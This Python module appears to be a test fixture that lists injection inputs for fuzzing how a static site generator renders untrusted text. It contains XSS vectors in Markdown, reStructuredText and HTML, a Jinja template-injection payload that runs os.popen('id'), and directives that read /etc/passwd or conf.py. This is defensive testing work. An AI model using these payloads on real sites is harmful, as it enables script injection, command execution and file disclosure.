"""What an attacker may write into a text that a site generator puts into its pages.

In each payload `HOOK` stands for a script that notes that it ran, `FIRE` and `LOAD` for addresses as in `payloads.py`.
"""

from payloads import LINKS, TEXTS

# What may end the line, the attribute, the paragraph or the picture around a text, for some reader of pages.
BREAKS = [
    "", "a\n\n", "a\r\n\r\n", "a\r\r", "a\u2028\u2028", "a\x1c\x1c", "a\x0b\x0b", "a\x85\x85", "` ", "a\">\n\n", "]()\n\n",
    "-->\n\n", "</text></svg>\n\n", "\\",
]
BODIES = [
    "[x](javascript:HOOK)", "[x](onload=HOOK//)", "<script>HOOK</script>", ".. raw:: html\x1c\x1c   <script>HOOK</script>",
]
MARKDOWN = [
    "![x](LOAD)", "![x](onerror=HOOK//)", "<img src=x onerror=HOOK>", "<javascript:HOOK>", "[x][y]\n\n[y]: javascript:HOOK",
    "a\n\n    <script>HOOK</script>", "a\n\n.. raw:: html\n\n   <script>HOOK</script>", "<div markdown=1 onmouseover=HOOK>x</div>",
    "[x](javascript:HOOK \"t\")", "[x](<javascript:HOOK>)", "[x]( javascript:HOOK )", "[x](JaVaScRiPt:HOOK)",
    "[x](java&#115;cript:HOOK)", "[x](javascript&colon;HOOK)", "[x](data:text/html,<script>HOOK</script>)",
    "[x](vbscript:HOOK)", "[x](&#1;javascript:HOOK)", "[x](x \"onload=HOOK//\")", "[x](x 'y\"onload=HOOK//')",
    "[x](<x\"onload=HOOK//>)", "[x](x\" onload=\"HOOK)", "](javascript:HOOK)[x", "](x)[y](onload=HOOK//)", "[![x](LOAD)](javascript:HOOK)",
    "![x](x\"onerror=\"HOOK)", "![\"onerror=HOOK//](x)", "![x](javascript:HOOK)", "![x][y] [y]: LOAD", "![](LOAD)", "!", "![",
    "[x]", "[x][]", "[x]: javascript:HOOK", "]", "\\](x)", "[", "[[", "[[badge s/0]]", "[[badge none]]", "[[x|javascript:HOOK]]",
    "*a*", "**a**", "***", "_a_", "__a__", "~~a~~", "~a~", "^a^", "^^a^^", "==a==", "++ctrl+alt++", "{++a++}", "{--a--}", "{==a==}",
    "`a`", "``", "```\n<script>HOOK</script>\n```", "`", "~~~\na\n~~~", "\ta", "     a", "a  \nb", "a\\\nb",
    "# a", "a\n=", "a\n-", "---", "- a", "1. a", "> a", "| a | b |\n|---|---|\n| [x](javascript:HOOK) | b |", "|", "a|b",
    ": a", "*[a]: b", "[^1]", "[^1]: <script>HOOK</script>", "[TOC]", "!!! note\n    a", "??? note", "--8<-- \"s.md\"",
    ";--8<--\ns.md\n--8<--", ":smile:", ":a:", "$a$", "$$a$$", "\\(a\\)", "\\[a\\]", "@a", "#1", "a@example.org",
    "<a@example.org>", "<https://example.org>", "https://example.org/a", "www.example.org", "(c) (tm) 1/2 +/- --> ...",
    "\"a\" 'b' -- --- ...", "<<a>>", "a &copy; &amp;amp; &#91;x&#93;", "&#x5b;x&#x5d;&#x28;javascript:HOOK&#x29;",
    "{: onload=HOOK }", "x{: onload=HOOK}", "{ onload=HOOK }", "{:onload=\"HOOK\"}", "{::nomarkdown}<script>HOOK</script>{:/}",
    "{::options parse_block_html=\"true\" /}", "{::options template=\"/etc/passwd\" /}", "{::comment}", "{:/}", "{:toc}", "{: .a #b}", "{#a onload=HOOK}",
    "<!-- -->", "<!--", "<![CDATA[ <script>HOOK</script> ]]>", "<?php", "</p><script>HOOK</script><p>", "</td></tr></table><script>HOOK</script>",
    "</picture><script>HOOK</script>", "<details open ontoggle=HOOK>", "<a href=javascript:HOOK>x</a>", "<svg><script>HOOK</script></svg>",
    "\x02wzxhzdk:0\x03", "\x02klzzwxh:0000\x03", "\x02amp\x03lt;script\x02amp\x03gt;", "wzxhzdk:0", "\x1a1\x1a", "\x00", "\x7f", "\ufffe", "\ufeff#",
    "HAHAHUGOSHORTCODE-s0-HBHB", "\u200b[x](javascript:HOOK)", "\u00a0[x](javascript:HOOK)", "［x］（javascript:HOOK）",
]
TEMPLATES = [
    "{{ 7 | times: 7 }}", "{{ '<script>HOOK</script>' }}", "{{ site.data }}", "{% assign a = 1 %}", "{% badge none %}",
    "{% include_relative index.md %}", "{% include none %}", "{% raw %}", "{% endraw %}", "{% comment %}", "{% if true %}",
    "{%", "%}", "{{", "}}", "{{}}", "{{{", "}}}", "{{{{ 7 }}}}", "{%- raw -%}", "{{- 7 -}}", "{% for a in (1..3) %}a{% endfor %}",
    "{{ 7 * 7 }}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# a #}", "{% set a = 1 %}", "{% include 'none' %}", "{% extends 'none' %}", "{{ '<script>HOOK</script>' | safe }}", "# for a in b", "#}",
    "{{< cartouche-badge \"s/0\" >}}", "{{% cartouche-badge \"s/0\" %}}", "{{< cartouche-badge none >}}", "{{% badge none %}}", "{{</* a */>}}", "{{/* a */}}",
    "{{ printf \"a\" }}", "{{ define \"a\" }}", "{{ end }}", "{{ .Site }}", "{{< ref \"none\" >}}", "{{< highlight html >}}", "{{% none %}}",
    "<%= 7 * 7 %>", "${7 * 7}", "#{7 * 7}", "[[ 7 ]]", "[% 7 %]", "<% HOOK %>", "@{7}", "{7}", "{text}", "{{text}}",
]
RESTRUCTURED = [
    "`x <javascript:HOOK>`_", "`x <javascript:HOOK>`__", "`x`_", "x_", "x__", "_`x`", "|x|", "|x|_", "[1]_", "[#]_", "*a*", "``a``",
    ":raw-html:`<script>HOOK</script>`", ":badge:`none`", ":download:`x <conf.py>`", ":ref:`x`", ":a: b", ":target: javascript:HOOK",
    "a\n   :target: javascript:HOOK", "a\u2028   :target: javascript:HOOK", "a\x1d   :target: javascript:HOOK", "a\x1e\x1e.. include:: conf.py",
    "a\x0c\x0c.. raw:: html\x0c\x0c   <script>HOOK</script>", "a\x1f\x1f.. raw:: html", "a\u2029\u2029.. raw:: html\u2029\u2029   <script>HOOK</script>",
    ".. include:: conf.py", ".. |x| replace:: y", ".. _x: javascript:HOOK", ".. image:: LOAD", ".. x", "..", "::", "a::", "a::\n\n  b", "\\", "\\\\",
    "\\ ", "a\\", "\\*a\\*", "\\u005b", ">>> a", "+---+", "====", "1. a", "(a) b", "-a  b",
]

PAYLOADS = list(dict.fromkeys(
    [start + body for start in BREAKS for body in BODIES] + MARKDOWN + TEMPLATES + RESTRUCTURED + TEXTS + LINKS))

# The same for the names of files, which may have fewer characters.
FILES = [
    "a b", "a_b_c", "__a__", "~~a~~", "`a`", "[x](onload=HOOK)", "[x](javascript)", "![x](x)", "]", "](x)", "a'b", "'onload=HOOK",
    "a&b", "&quot;onload=HOOK", "&#34; onload=HOOK", "{{ 7 }}", "{% raw %}", "{{% badge none %}}", "{ onload=HOOK}", "{7}", "${7}", "#a", "a#b",
    "%22onload=HOOK", "%0a%0a", "$a$", "++a++", "^^a^^", "==a==", "--a--", "(c)", "a...b", "@a", "a;b", "a,b", "ä", "\u00a0", "a\u2028b",
    "\u202ea", "＜script＞",
]
